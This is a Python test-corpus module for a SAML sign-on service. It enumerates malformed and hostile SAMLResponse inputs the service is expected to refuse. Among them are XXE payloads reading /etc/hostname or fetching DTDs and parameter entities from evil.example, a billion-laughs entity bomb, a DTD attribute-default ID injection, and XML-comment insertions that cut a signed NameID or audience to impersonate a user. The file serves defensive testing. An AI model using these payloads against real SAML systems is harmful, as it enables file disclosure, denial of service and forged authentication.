"""What is no response at all, or not one a sign-in needs: base64, size, encoding, well-formedness, exotic XML."""

from __future__ import annotations

import base64
import zlib
from typing import Any
from urllib.parse import quote

from sso.refusals import Refusal
from tests.saml.corpus.kinds import FIELDS, FORBIDDEN, NOT_A_RESPONSE, OVERSIZE
from tests.saml.corpus.recipe import COVERS, DOES_NOT_COVER, NOTHING, TWO_WAYS, Recipe, bad, swap
from tests.saml.messages import ENTITY_ID, PLAIN_NAMES, SAML, SAMLP

_EVIL = "nora@acme.example.evil.example"
_SPOKEN_FOR = {"name_id": _EVIL, "attributes": (("email", (_EVIL,)), *PLAIN_NAMES[1:])}


def _posted(variant: str, why: str, field: bytes, code: Refusal = Refusal.NOT_A_RESPONSE) -> Recipe:
    """What is posted as it stands, whatever it is."""
    kind = OVERSIZE if code is Refusal.TOO_LARGE else NOT_A_RESPONSE
    return bad(code, variant, kind, why, write=lambda _: field, wrap="as it is", proof=NOTHING)


def _xml(
    variant: str, why: str, xml: bytes, code: Refusal = Refusal.NOT_A_RESPONSE, proof: str = NOTHING
) -> Recipe:
    """XML that was never signed, in base64."""
    kind = OVERSIZE if code is Refusal.TOO_LARGE else NOT_A_RESPONSE
    return bad(code, variant, kind, why, write=lambda _: xml, proof=proof)


def _written(variant: str, why: str, old: bytes, new: bytes, proof: str = COVERS, **how: Any) -> Recipe:
    """A signed message into which something exotic was written afterwards."""

    def write(xml: bytes) -> bytes:
        assert old in xml, old
        return xml.replace(old, new, 1)

    return bad(Refusal.FORBIDDEN_XML, variant, FORBIDDEN, why, write=write, proof=proof, **how)


def _before(text: bytes) -> Any:
    return {"old": b"<samlp:Response", "new": text + b"<samlp:Response"}


def _recoded(variant: str, why: str, encoding: str, declared: str = "", proof: str = COVERS) -> Recipe:
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""

    def write(xml: bytes) -> bytes:
        return (declaration + xml.decode()).encode(encoding)

    return bad(Refusal.NOT_A_RESPONSE, variant, NOT_A_RESPONSE, why, write=write, proof=proof)


_RESPONSE = f'<samlp:Response xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="r" Version="2.0">'.encode()
_WHOLE = _RESPONSE + b"</samlp:Response>"
_PLUS = _WHOLE.replace(b" Version", ' Consent="ûïþ¿~~~>>>???ûû" Version'.replace(">", "&gt;").encode())
_LAUGHS = (
    b"<!DOCTYPE r [<!ENTITY a 'ha'>"
    + b"".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>".encode() for n in range(8))
    + b"]>"
)

RECIPES = (
    _posted("nothing", "An empty field.", b""),
    _posted("blanks", "Blanks alone.", b" \r\n\t "),
    _posted("xml_without_base64", "The XML itself.", _WHOLE, Refusal.NOT_BASE64),
    _posted(
        "xml_percent_encoded", "The XML itself, percent-encoded.", quote(_WHOLE).encode(), Refusal.NOT_BASE64
    ),
    _posted(
        "base64_percent_encoded_whole",
        "Base64 of a Response, percent-encoded once too often.",
        quote(base64.b64encode(_WHOLE), safe="").encode(),
        Refusal.NOT_BASE64,
    ),
    _posted(
        "blanks_for_plus",
        "Base64 in which each + has become a blank.",
        base64.b64encode(_PLUS).replace(b"+", b" "),
        Refusal.NOT_BASE64,
    ),
    _posted("base64url", "A Response in base64url.", base64.urlsafe_b64encode(_PLUS), Refusal.NOT_BASE64),
    _posted("base64_for_urls", "Base64 in the alphabet for URLs.", b"PHNhbWxwOl8-PC9zYW1scDpf_-"),
    _posted("base64_without_padding", "Base64 that breaks off.", b"PHNhbWxwOlJlc3BvbnNlPg"),
    _posted("base64_percent_encoded", "Base64, percent-encoded once too often.", b"PHg%2BPC94Pg%3D%3D"),
    _posted("base64_twice", "Base64 of base64.", base64.b64encode(base64.b64encode(_RESPONSE))),
    _posted("letters_outside_ascii", "Letters base64 does not have.", "éàü".encode()),
    _posted("nul", "A NUL character.", b"\0"),
    _posted("json_web_token", "A token of another protocol.", b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJub3JhIn0."),
    _posted("markup_and_script", "A script.", b"<script>alert(1)</script>"),
    _posted(
        "deflated",
        "Deflated, as the redirect binding does it.",
        base64.b64encode(zlib.compress(_RESPONSE)[2:-4]),
    ),
    _xml("not_xml", "Base64 of something else.", b"hello"),
    _xml("html", "A web page.", b"<html><body>Sign in</body></html>"),
    _xml("not_well_formed", "An element that is not closed.", _RESPONSE),
    _xml("two_roots", "Two responses in one.", (_RESPONSE + b"</samlp:Response>") * 2),
    _xml("latin1_octets", "Octets that are not UTF-8.", "<é/>".encode("latin-1")),
    _xml("control_character", "A character XML does not have.", _RESPONSE + b"&#1;</samlp:Response>"),
    _xml(
        "another_root",
        "An Assertion alone.",
        f'<saml:Assertion xmlns:saml="{SAML}"/>'.encode(),
        proof=DOES_NOT_COVER,
    ),
    _xml("authn_request", "A request.", f'<samlp:AuthnRequest xmlns:samlp="{SAMLP}"/>'.encode()),
    _xml(
        "logout_response",
        "A response to another question.",
        f'<samlp:LogoutResponse xmlns:samlp="{SAMLP}"/>'.encode(),
    ),
    _xml("saml_1_1", "A response of SAML 1.1.", b'<Response xmlns="urn:oasis:names:tc:SAML:1.0:protocol"/>'),
    _xml("no_namespace", "A Response of no namespace.", b"<Response/>"),
    _recoded("utf16", "A signed message in UTF-16.", "utf-16"),
    _recoded("latin1_declared", "A signed message that says it is ISO-8859-1.", "latin-1", "ISO-8859-1"),
    _recoded("utf7_declared", "A signed message that says it is UTF-7.", "ascii", "UTF-7", NOTHING),
    bad(
        Refusal.NOT_A_RESPONSE,
        "signed_assertion_alone",
        NOT_A_RESPONSE,
        "A signed Assertion without its Response.",
        then=lambda root: root[-1],
    ),
    bad(
        Refusal.NOT_A_RESPONSE,
        "broken_off",
        NOT_A_RESPONSE,
        "A signed message that was cut.",
        write=lambda xml: xml[: len(xml) // 2],
        proof=NOTHING,
    ),
    bad(
        Refusal.NOT_A_RESPONSE,
        "two_fields",
        FIELDS,
        "Two SAMLResponse fields: nobody can say which is meant.",
        sent="twice",
    ),
    bad(
        Refusal.NOT_A_RESPONSE,
        "in_the_query_string",
        FIELDS,
        "SAMLResponse in the address, nothing in the form.",
        sent="in the query string",
    ),
    bad(
        Refusal.NOT_A_RESPONSE,
        "under_another_name",
        FIELDS,
        "The field is called samlresponse.",
        sent="under another name",
    ),
    _posted("more_than_256_kib", "A field over 256 KiB.", b"QUFB" * 65_537, Refusal.TOO_LARGE),
    _xml("thirty_deep", "Thirty elements in each other.", b"<a>" * 30 + b"</a>" * 30, Refusal.TOO_LARGE),
    _xml(
        "thirty_deep_behind_thirty_others",
        "Thirty elements in each other, after as many beside each other.",
        b"<a>" + b"<b/>" * 30 + b"<a>" * 29 + b"</a>" * 30,
        Refusal.TOO_LARGE,
    ),
    _xml(
        "three_hundred_deep",
        "So many elements in each other that the parser itself gives up.",
        b"<a>" * 300 + b"</a>" * 300,
    ),
    _xml(
        "four_thousand_wide",
        "More elements than any sign-in has.",
        b"<a>" + b"<b/>" * 4100 + b"</a>",
        Refusal.TOO_LARGE,
    ),
    bad(
        Refusal.TOO_LARGE,
        "signed_with_5000_groups",
        OVERSIZE,
        "Really signed, with more than can be meant.",
        says={"attributes": (*PLAIN_NAMES, ("g", tuple("x" for _ in range(5000)))), "typed": False},
        wrap="base64",
    ),
    bad(
        Refusal.TOO_LARGE,
        "signed_with_one_long_namespace",
        OVERSIZE,
        "A namespace of 20,000 characters, which canonicalisation would write at each of a hundred elements.",
        edit=swap(
            "</samlp:Status>",
            f'<samlp:StatusDetail xmlns:n="urn:{"n" * 20_000}">{"<n:x/>" * 100}</samlp:StatusDetail></samlp:Status>',
        ),
        sign="response",
    ),
    bad(
        Refusal.TOO_LARGE,
        "signed_and_padded_with_blanks",
        OVERSIZE,
        "Really signed, then blown up with blanks.",
        write=lambda xml: xml + b" " * 200_000,
        wrap="base64",
    ),
    _written("doctype", "A DTD before a signed message.", **_before(b"<!DOCTYPE Response>")),
    _written(
        "doctype_with_entity",
        "An entity declared before a signed message.",
        **_before(b"<!DOCTYPE r [<!ENTITY e 'x'>]>"),
    ),
    _written(
        "external_entity",
        "A file of ours named as an entity.",
        proof=DOES_NOT_COVER,
        old=b"<samlp:Response",
        new=b"<!DOCTYPE r [<!ENTITY f SYSTEM 'file:///etc/hostname'>]><samlp:Response",
        then=None,
        edit=str,
        sign="nothing",
    ),
    _written(
        "external_dtd", "A DTD to be fetched.", **_before(b"<!DOCTYPE r SYSTEM 'http://evil.example/x.dtd'>")
    ),
    _written(
        "parameter_entity",
        "A parameter entity.",
        **_before(b"<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/p'>]>"),
    ),
    _written("billion_laughs", "Entities that multiply.", **_before(_LAUGHS)),
    _written(
        "default_attributes",
        "A DTD that gives an element an ID it does not have.",
        **_before(b"<!DOCTYPE r [<!ATTLIST saml:Subject ID CDATA 'evil'>]>"),
    ),
    _written(
        "style_sheet",
        "A processing instruction before the message.",
        **_before(b"<?xml-stylesheet href='x'?>"),
    ),
    _written(
        "comment_in_name_id",
        "A comment cuts the signed NameID for whoever reads its first text.",
        _EVIL.encode(),
        b"nora@acme.example<!-- -->.evil.example",
        TWO_WAYS,
        says=_SPOKEN_FOR,
    ),
    _written(
        "comment_in_email",
        "A comment cuts the signed email.",
        f'"xs:string">{_EVIL}'.encode(),
        b'"xs:string">nora@acme.example<!-- -->.evil.example',
        TWO_WAYS,
        says=_SPOKEN_FOR,
    ),
    _written(
        "comment_in_name_id_response_signed",
        "The same under a signed Response.",
        _EVIL.encode(),
        b"nora@acme.example<!-- -->.evil.example",
        TWO_WAYS,
        says=_SPOKEN_FOR,
        sign="response",
    ),
    _written(
        "comment_in_audience",
        "A comment cuts a signed audience down to ours.",
        f"{ENTITY_ID}.evil.example".encode(),
        f"{ENTITY_ID}<!-- -->.evil.example".encode(),
        TWO_WAYS,
        says={"audiences": (f"{ENTITY_ID}.evil.example",)},
    ),
    _written(
        "comment_between_elements",
        "A comment between elements.",
        b"<saml:Subject>",
        b"<!-- --><saml:Subject>",
    ),
    _written(
        "comment_beside_the_message",
        "A comment after the message.",
        b"</samlp:Response>",
        b"</samlp:Response><!-- -->",
    ),
    _written(
        "comment_in_signature_value",
        "A comment inside the signature.",
        b"</ds:SignatureValue>",
        b"<!-- --></ds:SignatureValue>",
    ),
    _written(
        "instruction_in_name_id",
        "A processing instruction inside the NameID.",
        b">nora@acme",
        b">nora<?x?>@acme",
        DOES_NOT_COVER,
    ),
    _written(
        "instruction_between_elements",
        "A processing instruction between elements.",
        b"<saml:Subject>",
        b"<?x y?><saml:Subject>",
        DOES_NOT_COVER,
    ),
)
